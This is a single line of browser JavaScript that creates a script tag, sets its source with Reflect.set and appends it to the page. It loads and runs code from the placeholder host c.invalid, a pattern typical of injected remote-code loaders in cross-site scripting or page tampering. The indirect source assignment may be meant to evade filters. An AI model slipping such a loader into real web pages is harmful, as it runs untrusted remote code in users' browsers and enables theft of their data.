const s = document.createElement('script'); Reflect.set(s, 'src', 'https://c.invalid/x.js'); document.body.append(s);
